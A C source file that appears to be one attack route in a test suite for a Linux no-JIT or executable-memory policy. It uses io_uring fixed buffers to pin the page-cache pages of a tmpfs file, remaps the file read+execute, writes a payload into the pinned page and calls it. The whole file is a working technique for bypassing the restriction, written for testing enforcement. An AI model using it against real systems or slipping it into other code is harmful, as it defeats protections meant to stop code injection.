// SPDX-License-Identifier: GPL-2.0
/*
 * Route 14, long-term pins: a write channel that outlives every writer
 * the kernel counts. A tmpfs file (a byte-identical copy of this program,
 * listed wherever this program is) is mapped shared and writable and
 * registered as an io_uring fixed buffer, which pins its page-cache
 * pages; the mapping and the descriptor go, so the file has no writer
 * left; it is mapped read+execute; then IORING_OP_READ_FIXED copies our
 * code into the pinned page, under the executable mapping, and we call
 * it. Scratch directory: $NOJIT_SHM_DIR, else /dev/shm (tmpfs: other file
 * systems refuse long-term writable pins of their pages).
 */
#define ATTACK_NAME "uring_pinned_write"
#include "file.h"
#include <linux/io_uring.h>
#include <sys/syscall.h>
#include <sys/uio.h>

struct ring {
	int fd;
	unsigned int *sq_tail, *sq_mask, *sq_array, *cq_head, *cq_mask;
	struct io_uring_sqe *sqes;
	struct io_uring_cqe *cqes;
};

static void ring_setup(struct ring *r)
{
	struct io_uring_params p = {};
	char *sq, *cq;

	r->fd = syscall(__NR_io_uring_setup, 4, &p);
	if (r->fd < 0)
		attack_step_failed("io_uring_setup()", errno);
	sq = mmap(NULL, p.sq_off.array + p.sq_entries * sizeof(unsigned int),
		  PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, r->fd, IORING_OFF_SQ_RING);
	cq = mmap(NULL, p.cq_off.cqes + p.cq_entries * sizeof(struct io_uring_cqe),
		  PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, r->fd, IORING_OFF_CQ_RING);
	r->sqes = mmap(NULL, p.sq_entries * sizeof(struct io_uring_sqe),
		       PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, r->fd, IORING_OFF_SQES);
	if (sq == MAP_FAILED || cq == MAP_FAILED || r->sqes == MAP_FAILED)
		attack_error("mapping the io_uring rings: %s", strerror(errno));
	r->sq_tail = (unsigned int *)(sq + p.sq_off.tail);
	r->sq_mask = (unsigned int *)(sq + p.sq_off.ring_mask);
	r->sq_array = (unsigned int *)(sq + p.sq_off.array);
	r->cq_head = (unsigned int *)(cq + p.cq_off.head);
	r->cq_mask = (unsigned int *)(cq + p.cq_off.ring_mask);
	r->cqes = (struct io_uring_cqe *)(cq + p.cq_off.cqes);
}

/* One READ_FIXED of LEN bytes of FD into ADDR (inside fixed buffer 0). */
static int read_fixed(struct ring *r, int fd, void *addr, unsigned int len)
{
	unsigned int tail = *r->sq_tail, i = tail & *r->sq_mask, head;
	struct io_uring_sqe *sqe = &r->sqes[i];
	int res;

	memset(sqe, 0, sizeof(*sqe));
	sqe->opcode = IORING_OP_READ_FIXED;
	sqe->fd = fd;
	sqe->addr = (uintptr_t)addr;
	sqe->len = len;
	r->sq_array[i] = i;
	__atomic_store_n(r->sq_tail, tail + 1, __ATOMIC_RELEASE);
	if (syscall(__NR_io_uring_enter, r->fd, 1, 1, IORING_ENTER_GETEVENTS, NULL, 0) < 0)
		attack_error("io_uring_enter: %s", strerror(errno));
	head = *r->cq_head;
	res = r->cqes[head & *r->cq_mask].res;
	__atomic_store_n(r->cq_head, head + 1, __ATOMIC_RELEASE);
	return res;
}

int main(void)
{
	const char *shm = getenv("NOJIT_SHM_DIR");
	char path[PATH_MAX + 16];
	unsigned char *rw, *rx;
	struct iovec iov;
	struct ring r;
	struct stat st;
	int fd, pfd[2], n;
	size_t len;

	attack_init();
	setenv("TMPDIR", shm && *shm ? shm : "/dev/shm", 1);
	snprintf(path, sizeof(path), "%s/copy", attack_scratch_create());
	attack_copy_file("/proc/self/exe", path, 0700, 0);
	ring_setup(&r);
	fd = open(path, O_RDWR | O_CLOEXEC);
	if (fd < 0 || fstat(fd, &st))
		attack_error("open %s: %s", path, strerror(errno));
	len = attack_page_up(st.st_size);
	rw = mmap(NULL, len, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
	if (rw == MAP_FAILED)
		attack_error("mmap shared writable: %s", strerror(errno));
	iov.iov_base = rw;
	iov.iov_len = len;
	if (syscall(__NR_io_uring_register, r.fd, IORING_REGISTER_BUFFERS, &iov, 1) < 0)
		attack_step_failed("io_uring_register(BUFFERS)", errno);
	munmap(rw, len);
	close(fd);

	fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		attack_error("open %s: %s", path, strerror(errno));
	rx = mmap(NULL, len, PROT_READ | PROT_EXEC, MAP_PRIVATE, fd, 0);
	n = errno;
	close(fd);
	if (rx == MAP_FAILED) {
		attack_scratch_remove(attack_scratch);
		attack_step_failed("mmap RX of the file with pinned pages", n);
	}
	if (pipe2(pfd, O_CLOEXEC) ||
	    write(pfd[1], attack_payload, sizeof(attack_payload)) != (ssize_t)sizeof(attack_payload))
		attack_error("pipe: %s", strerror(errno));
	n = read_fixed(&r, pfd[0], rw + ATTACK_PAGE, sizeof(attack_payload));
	attack_scratch_remove(attack_scratch);
	if (n != (int)sizeof(attack_payload))
		attack_error("READ_FIXED into the pinned page: %d", n);
	attack_run_payload(rx + ATTACK_PAGE);
}
